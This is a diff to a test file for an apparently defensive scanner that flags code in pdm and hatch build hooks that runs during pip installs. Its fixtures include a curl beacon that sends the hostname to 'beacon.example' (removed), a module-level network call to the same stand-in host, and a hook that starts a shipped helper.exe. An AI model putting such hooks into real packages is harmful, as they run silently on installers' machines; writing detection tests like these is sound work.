@@ -332,14 +332,25 @@ def test_a_setup_py_whose_parse_warns_still_has_its_imports_followed(tmp_path: P
 
 
 #: recall16 (blind15's b15-ls-pdm-build-hook, -hatch-build-hook): a build backend's hook
-#: file runs while pip builds, as setup.py does: a beacon and a pip install in it are the
-#: installer's. Both were a module's on main, clean.
-_HOOK_BEACON = """\
+#: file runs while pip builds, as a setuptools command does: a pip install, a shipped
+#: program started and network at its module level in it are the installer's. All were a
+#: module's on main, clean.
+_PDM_HOOK = """\
 import os
+import subprocess
 
 
 def pdm_build_initialize(context):
-    os.system('curl -s -d "h=$(hostname)" https://beacon.example/i')
+    subprocess.Popen([os.path.join(os.path.dirname(__file__), "tools", "helper.exe")])
+"""
+_HOOK_MODULE_NETWORK = """\
+import urllib.request
+
+urllib.request.urlopen("https://beacon.example/b").read()
+
+
+def pdm_build_initialize(context):
+    pass
 """
 _HATCH_PIP = """\
 import subprocess
@@ -360,13 +371,13 @@ _HATCH = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.b
     ("files", "expected"),
     [
         (
-            {"pyproject.toml": _PDM, "pdm_build.py": _HOOK_BEACON},
-            ("CPL-THR-011", "pdm_build.py"),
+            {"pyproject.toml": _PDM, "pdm_build.py": _PDM_HOOK},
+            ("CPL-THR-018", "pdm_build.py"),
         ),
         (
             {
                 "pyproject.toml": _PDM + '[tool.pdm.build]\ncustom-hook = "build/hook.py"\n',
-                "build/hook.py": _HOOK_BEACON,
+                "build/hook.py": _HOOK_MODULE_NETWORK,
             },
             ("CPL-THR-011", "build/hook.py"),
         ),
@@ -411,7 +422,7 @@ def test_a_build_backends_hook_file_is_the_installers(
     "files",
     [
         # pdm_build.py under another backend: nothing calls its hooks
-        {"pyproject.toml": _HATCH, "pdm_build.py": _HOOK_BEACON},
+        {"pyproject.toml": _HATCH, "pdm_build.py": _PDM_HOOK},
         # hatch_build.py that no hooks table names: hatchling never loads it
         {"pyproject.toml": _HATCH, "hatch_build.py": _HATCH_PIP},
         # a hook outside the tree is no file of it
@@ -435,6 +446,15 @@ def test_a_hook_file_no_backend_calls_stays_a_module(tmp_path: Path, files: dict
         "    def initialize(self, version, build_data):\n"
         "        subprocess.run(['npm', 'ci'], check=True, cwd='js')\n"
         "        subprocess.run(['npm', 'run', 'build'], check=True, cwd='js')\n",
+        # nbconvert's hook: stylesheets fetched into the package's tree when they are missing
+        "import os, urllib.request\n"
+        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n"
+        "def _fetch(url, dest):\n"
+        "    if not os.path.exists(dest):\n"
+        "        open(dest, 'wb').write(urllib.request.urlopen(url).read())\n\n"
+        "class CustomHook(BuildHookInterface):\n"
+        "    def initialize(self, version, build_data):\n"
+        "        _fetch('https://unpkg.com/@jupyterlab/nbconvert-css/style/index.css', 'x.css')\n",
         # a version file written from git's description
         "import subprocess\n\ndef pdm_build_initialize(context):\n"
         "    out = subprocess.check_output(['git', 'describe', '--tags'], text=True)\n"
